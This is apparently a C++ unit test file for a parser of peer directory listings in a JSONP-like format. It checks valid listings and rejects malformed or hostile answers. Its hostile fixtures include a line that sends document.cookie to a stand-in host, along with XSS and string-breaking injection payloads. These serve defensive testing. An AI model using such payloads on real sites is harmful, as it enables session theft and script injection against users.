// A peer's "library.js" answer read as data: the listing's exact grammar,
// good listings and hostile ones.
#include "library/PeerListing.h"

#include <gtest/gtest.h>

using library::PeerListing;
using library::PeerListingEntry;

namespace {

const std::string guid = "{0a1b2c3d-0000-4e5f-8a9b-0c1d2e3f4a5b}";
const std::string head = "({\"path\" : \"%2fm\",\n\"auth\" : \"" + guid + "\",\n\"files\" : [\n";
const std::string up = R"({"name" : "..","type" : "$UP$" })";

std::string line(const std::string& name, const std::string& path, const std::string& type)
{
    return "\n{\"name\" : \"" + name + "\",\"path\" : \"" + path + "\",\"type\" : \"" + type + "\" }\n";
}

const std::string album = line("Album", "%2fm%2fAlbum", "%24DIR%24");
const std::string song = line("%c3%a9t%c3%a9%2emp3", "%2fm%2f%c3%a9t%c3%a9%2emp3", "mp3");

} // namespace

TEST(PeerListing, GoodListings)
{
    struct Case {
        const char* what;
        std::string answer;
        PeerListing listing;
    };
    const PeerListingEntry albumEntry{"Album", "/m/Album", "$DIR$"};
    const PeerListingEntry songEntry{"\xc3\xa9t\xc3\xa9.mp3", "/m/\xc3\xa9t\xc3\xa9.mp3", "mp3"};
    const std::vector<Case> cases = {
        {"a folder", head + up + "," + album + "," + song + "]});", {"/m", guid, true, {albumEntry, songEntry}}},
        {"an empty folder", head + up + "]});", {"/m", guid, true, {}}},
        {"the root, no session id",
         "({\"path\" : \"\",\n\"auth\" : \"\",\n\"files\" : [\n" + line("%2fm", "%2fm", "%24DIR%24") + "]});",
         {"", "", false, {{"/m", "/m", "$DIR$"}}}},
        {"the root of no folders", "({\"path\" : \"\",\n\"auth\" : \"\",\n\"files\" : [\n]});", {"", "", false, {}}},
    };
    for (const Case& c : cases) {
        SCOPED_TRACE(c.what);
        PeerListing listing;
        ASSERT_TRUE(library::parsePeerListing(c.answer, listing));
        EXPECT_EQ(listing, c.listing);
    }
}

TEST(PeerListing, HostileAnswersAreRefused)
{
    const std::string good = head + up + "," + album + "]});";
    const std::vector<std::pair<const char*, std::string>> cases = {
        {"script after the call", good + "fetch('//x/?'+document.cookie);"},
        {"a callback that is a script", "alert(1)||" + good},
        {"a named callback", "cb" + good},
        {"a quote in a value", head + up + "," + line("a\"+alert(1)+\"", "%2f", "mp3") + "]});"},
        {"markup in a value", head + up + "," + line("<img src=x onerror=alert(1)>", "%2f", "mp3") + "]});"},
        {"upper-case hexadecimal", head + line("%C3%A9", "%2f", "mp3") + "]});"},
        {"a lone percent sign", head + line("a%2", "%2f", "mp3") + "]});"},
        {"a session id that ends the string", "({\"path\" : \"\",\n\"auth\" : \"x\"+alert(1)+\"\",\n\"files\" : [\n]});"},
        {"a session id too long", "({\"path\" : \"\",\n\"auth\" : \"" + std::string(129, 'a') + "\",\n\"files\" : [\n]});"},
        {"a key of its own", head + "\n{\"name\" : \"a\",\"path\" : \"a\",\"type\" : \"a\",\"x\" : 1 }\n]});"},
        {"entries without their comma", head + album + album + "]});"},
        {"a comma before the first entry", head + "," + album + "]});"},
        {"CR LF line ends", "({\"path\" : \"\",\r\n\"auth\" : \"\",\r\n\"files\" : [\r\n]});"},
        {"cut short", good.substr(0, good.size() - 2)},
        {"an up entry out of place", head + album + "," + up + "]});"},
        {"nothing", ""},
    };
    for (const auto& [what, answer] : cases) {
        SCOPED_TRACE(what);
        PeerListing listing;
        EXPECT_FALSE(library::parsePeerListing(answer, listing));
    }
}
